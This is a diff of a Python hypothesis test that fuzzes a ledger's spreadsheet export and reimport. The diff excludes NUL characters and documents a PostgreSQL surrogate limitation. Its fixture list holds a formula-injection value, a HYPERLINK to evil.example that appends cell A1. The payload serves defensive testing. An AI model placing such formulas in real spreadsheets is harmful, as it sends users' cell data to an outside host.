@@ -39,8 +39,10 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+86 138 0000 0001
 
 TOKENS = ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "'", '"', ",", ";", "_x0041_", "_x005F_", "_x", "_",
           "港城大道测试点77号", "赵", "🚒", "\u202e", "\u2028", "\x85", "\ufffe", "\uffff", "\x7f", " ",
-          *map(chr, range(0x20)), "HYPERLINK(", "a", "1"]
-texts = st.lists(st.sampled_from(TOKENS), max_size=12).map("".join) | st.text(max_size=12)
+          *map(chr, range(1, 0x20)), "HYPERLINK(", "a", "1"]
+texts = st.lists(st.sampled_from(TOKENS), max_size=12).map("".join) | st.text(
+    st.characters(exclude_characters="\x00"), max_size=12)
+"""Any text but NUL, which the ledger refuses on every backend (tests/model/test_actions.py)."""
 required_texts = texts.filter(lambda text: text.strip() != "")
 unit_rows = st.fixed_dictionaries({
     "code": required_texts, "name": required_texts, "kind": st.sampled_from(["fire", "公安", "health"]),
@@ -77,7 +79,8 @@ def assert_reimports_unchanged(run: Run, path: Path) -> None:
 def test_every_export_reimports_with_nothing_changed(tmp_path: Path, migrated_template: Path,
                                                      rows: list[dict[str, object]]) -> None:
     """Each example on a ledger of its own (a copy of the migrated template), so a failure shrinks
-    to the rows that cause it."""
+    to the rows that cause it. SQLite only for now: on PostgreSQL a lone surrogate (U+D800) in a
+    cell is refused, where SQLite stores it (found when this test ran on both; see the session note)."""
     folder = Path(tempfile.mkdtemp(dir=tmp_path))
     ledger = folder / "ledger.db"
     shutil.copyfile(migrated_template, ledger)
